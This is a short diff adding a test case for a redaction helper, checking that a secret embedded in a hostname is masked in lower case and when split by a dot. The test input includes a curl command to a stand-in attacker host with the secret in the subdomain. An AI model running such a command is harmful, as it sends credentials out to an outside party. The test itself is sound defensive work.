@@ -46,3 +46,9 @@ verifies(['G-S02'], 'no eight signs of it are shown, wherever it was cut', () =>
     }),
   );
 });
+
+verifies(['G-S02'], 'a secret in the name of a host is hidden in lower case too', () => {
+  const hide = hiding('Tr0ub4dorHorse9Battery', 'curl https://Tr0ub4dorHorse9Battery.evil.example');
+  expect(hide('tr0ub4dorhorse9battery.evil.example:443')).toBe('[REDACTED].evil.example:443');
+  expect(hide('tr0ub4dorhorse.9battery.evil.example')).not.toMatch(/tr0ub4dor|horse/);
+});
